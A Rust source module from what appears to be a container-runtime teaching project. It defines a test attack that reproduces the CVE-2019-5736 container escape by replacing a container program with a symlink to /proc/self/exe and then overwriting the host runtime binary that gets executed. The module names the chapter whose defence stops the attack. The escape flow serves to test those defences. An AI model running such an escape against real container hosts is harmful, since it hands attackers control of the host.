//! The program that somebody comes in by, overwritten from inside.
//!
//! Until its exec, a process that comes in runs a program of the host. If what it shall
//! execute is a link to `/proc/self/exe`, it runs that once more: from now on in a container,
//! and for the attacker.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use process::{Result, Step};

use crate::attack::attacker::{mount_proc, wait_for_host};
use crate::attack::entrant::{Attacked, join};
use crate::attack::places::IMAGE;
use crate::attack::program::{self, OURSELVES, RUNTIME};
use crate::attack::target::Attack;

/// What whoever comes in is going to execute.
const PROGRAM: &str = "/tool";

pub const ATTACK: Attack = Attack {
    name: "newcomer-program",
    title: "overwrite a program that comes in",
    tries: "replace a program of the container by a link to /proc/self/exe, wait until somebody \
            comes in to run it, keep open what is run instead, and write to it as soon as nobody \
            executes it any more.",
    why: "a process that comes in was executed from a file of the host, and /proc/self/exe leads \
          there, past the container's root. Chapter 10's runs from a read-only mount or from a \
          sealed copy.",
    reference: "CVE-2019-5736, proc_pid_exe(5)",
    stopped_by: 10,
    run: |target| {
        program::install()?;
        let attacked = match Attacked::start(target)? {
            Ok(attacked) => attacked,
            Err(why_not) => return Ok(why_not),
        };
        let words = [PROGRAM, "attack", "--inside", target.attack.name, "tool"];
        let found = program::attack(target, attacked.entrance(RUNTIME, "/", &words));
        // Before chapter 7 it is the image's.
        let _ = fs::remove_file(Path::new(IMAGE).join(&PROGRAM[1..]));
        attacked.end()?;
        found
    },
    inside: |words| match words {
        [what, rest @ ..] if what == "join" => join(rest),
        [what, rest @ ..] if what == "tool" => program::overwrite(&[ATTACK.name, "tool"], rest),
        _ => lay_out(),
    },
};

fn lay_out() -> Result<String> {
    mount_proc();
    symlink(OURSELVES, PROGRAM).step(|| format!("link {PROGRAM}"))?;
    wait_for_host()
}
